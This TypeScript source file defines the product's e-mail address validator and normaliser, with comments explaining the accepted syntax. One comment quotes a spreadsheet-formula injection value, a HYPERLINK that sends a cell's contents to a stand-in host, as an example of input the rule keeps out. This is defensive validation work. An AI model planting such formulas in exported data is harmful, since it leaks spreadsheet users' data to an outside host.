/**
 * The product's one e-mail rule, used by every server validator and every web form.
 *
 * An address is a dot-atom local part (the characters the HTML e-mail input allows, no leading,
 * trailing or doubled dot) at a domain of at least two labels whose last label is a real top-level
 * domain (letters, at least two, or an `xn--` IDN label). ASCII only, as the browser's own
 * `type="email"` check. Quotes, parentheses, commas and spaces are refused, which also keeps
 * spreadsheet formulas such as `=HYPERLINK("https://x/?"&A2,"y")&"@a.b"` out.
 */
export const EMAIL_MAX_LENGTH = 254;
const LOCAL_MAX_LENGTH = 64;

const LOCAL = /^[A-Za-z0-9!#$%&'*+/=?^_`{|}~-]+(?:\.[A-Za-z0-9!#$%&'*+/=?^_`{|}~-]+)*$/;
const LABEL = /^[A-Za-z0-9](?:[A-Za-z0-9-]{0,61}[A-Za-z0-9])?$/;
const TOP_LEVEL = /^(?:[A-Za-z]{2,63}|xn--[A-Za-z0-9-]{1,59})$/;

export function isEmailAddress(value: unknown): value is string {
  if (typeof value !== 'string' || value.length > EMAIL_MAX_LENGTH) return false;
  const at = value.lastIndexOf('@');
  if (at <= 0) return false;
  const local = value.slice(0, at);
  const labels = value.slice(at + 1).split('.');
  return (
    local.length <= LOCAL_MAX_LENGTH &&
    LOCAL.test(local) &&
    labels.length >= 2 &&
    labels.every((label) => LABEL.test(label)) &&
    TOP_LEVEL.test(labels[labels.length - 1])
  );
}

/** How an address is stored and compared: trimmed, lower case (case never makes a second subscriber or customer). */
export function normaliseEmailAddress(value: string): string {
  return value.trim().toLowerCase();
}
